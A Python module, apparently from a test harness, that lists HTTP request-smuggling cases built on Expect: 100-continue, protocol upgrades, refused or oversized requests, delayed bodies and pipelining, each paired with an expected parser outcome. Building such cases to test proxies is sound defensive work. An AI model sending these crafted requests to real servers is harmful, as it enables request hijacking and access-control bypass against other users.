"""Attacks on the order of things: what follows a refusal or an early answer; expectations, upgrades, bad promises."""

from .attack import BODY, PIPELINED, REFUSED, Attack, head, raw, row

_GOOD = "GET /attacker HTTP/1.1\r\nHost: front.example\r\n\r\n"
#: More than the limit that the scene gives its backend.
_TOO_MUCH = 100_000


def _staged(name, direct, *fields, line="POST /attacker HTTP/1.1", before=b"", more=0):
    """The head; after a moment the body, or what was promised of it: `before` and the hidden request. Content-Length
    says `more` than that."""

    def parts(hidden):
        body = before + hidden
        filled = (field.replace("{n}", str(len(body) + more)) for field in fields)
        return [head(*filled, line=line), body]

    return Attack(name, parts, direct)


_LENGTH = "Content-Length: {n}"
_EXPECT = "Expect: 100-continue"

_EXPECTATIONS = [
    _staged("expect", BODY, _EXPECT, _LENGTH),
    row("expect-not-awaited", BODY, _EXPECT, _LENGTH),
    _staged("expect-and-no-body", PIPELINED, _EXPECT, "Content-Length: 0"),
    _staged("expect-chunked", PIPELINED, _EXPECT, "Transfer-Encoding: chunked", before=b"0\r\n\r\n"),
    _staged("expect-of-GET", BODY, _EXPECT, _LENGTH, line="GET /attacker HTTP/1.1"),
    _staged("expect-of-HEAD", BODY, _EXPECT, _LENGTH, line="HEAD /attacker HTTP/1.1"),
    _staged("expect-other", REFUSED, "Expect: cow", _LENGTH),
    _staged("expect-two-words", REFUSED, "Expect: y 100-continue", _LENGTH),
    _staged("expect-list", REFUSED, "Expect: 100-continue, cow", _LENGTH),
    _staged("expect-twice", BODY, _EXPECT, _EXPECT, _LENGTH),
    _staged("expect-folded", REFUSED, "Expect:", " 100-continue", _LENGTH),
    _staged("expect-of-1.0", BODY, _EXPECT, _LENGTH, "Connection: keep-alive", line="POST /attacker HTTP/1.0"),
    _staged("expect-too-much", REFUSED, _EXPECT, f"Content-Length: {_TOO_MUCH}"),
    _staged("expect-CL.TE", REFUSED, _EXPECT, _LENGTH, "Transfer-Encoding: chunked", before=b"0\r\n\r\n"),
]

_UPGRADES = [
    row("upgrade-h2c", PIPELINED, "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk",
        line="GET /attacker HTTP/1.1"),
    row("upgrade-h2c-without-connection", PIPELINED, "Upgrade: h2c", line="GET /attacker HTTP/1.1"),
    row("upgrade-websocket", PIPELINED, "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", line="GET /attacker HTTP/1.1"),
    row("upgrade-websocket-bad-version", PIPELINED, "Connection: Upgrade", "Upgrade: websocket",
        "Sec-WebSocket-Version: 1", line="GET /attacker HTTP/1.1"),
    row("upgrade-with-body", BODY, "Connection: Upgrade", "Upgrade: h2c", _LENGTH),
    row("upgrade-tls", PIPELINED, "Connection: Upgrade", "Upgrade: TLS/1.0", line="OPTIONS * HTTP/1.1"),
]  # fmt: skip

_AFTER_A_REFUSAL = [
    raw("after-bad-field", REFUSED, "GET /attacker HTTP/1.1\r\nHost: a\r\nBad Field: a\r\n\r\n{hidden}"),
    raw("after-bad-line", REFUSED, "GET /attacker\r\n\r\n{hidden}"),
    raw("after-garbage", REFUSED, "\x16\x03\x01\x02\x00\x01\r\n\r\n{hidden}"),
    raw("after-good-then-bad", BODY, _GOOD + "GET\r\n\r\n{hidden}"),
    row("after-long-field", REFUSED, f"X-Other: {'a' * 20_000}", line="GET /attacker HTTP/1.1"),
    row("after-many-fields", REFUSED, *(f"X-{number}: a" for number in range(300)), line="GET /attacker HTTP/1.1"),
    _staged("after-long-field-in-pieces", REFUSED, f"X-Other: {'a' * 20_000}", line="GET /attacker HTTP/1.1"),
    _staged("after-too-much", REFUSED, f"Content-Length: {_TOO_MUCH}", before=b"a" * 3000 + b"\r\n\r\n"),
    _staged("after-too-much-whole", REFUSED, _LENGTH, before=b"a" * _TOO_MUCH + b"\r\n\r\n"),
    _staged("after-too-much-chunked", REFUSED, "Transfer-Encoding: chunked",
            before=b"%x\r\n" % _TOO_MUCH + b"a" * _TOO_MUCH + b"\r\n0\r\n\r\n"),
    _staged("after-unknown-coding", REFUSED, "Transfer-Encoding: gzip, chunked", before=b"0\r\n\r\n"),
    _staged("after-bad-chunk", REFUSED, "Transfer-Encoding: chunked", before=b"cow\r\n"),
]  # fmt: skip

_PROMISES = [
    _staged("body-too-short", BODY, _LENGTH, more=50),
    _staged("body-after-a-pause", BODY, _LENGTH),
    _staged("body-after-a-pause-of-1.0", BODY, _LENGTH, "Connection: keep-alive", line="POST /attacker HTTP/1.0"),
    row("after-close", BODY, "Connection: close", line="GET /attacker HTTP/1.1"),
    row("after-close-and-keep-alive", BODY, "Connection: close, keep-alive", line="GET /attacker HTTP/1.1"),
    row("after-1.0", BODY, line="GET /attacker HTTP/1.0"),
    row("after-1.0-keep-alive", PIPELINED, "Connection: keep-alive", line="GET /attacker HTTP/1.0"),
    raw("pipelined", PIPELINED, _GOOD * 3 + "{hidden}"),
    raw("pipelined-behind-HEAD", PIPELINED, _GOOD.replace("GET", "HEAD") * 2 + "{hidden}"),
]

ROWS = [*_EXPECTATIONS, *_UPGRADES, *_AFTER_A_REFUSAL, *_PROMISES]
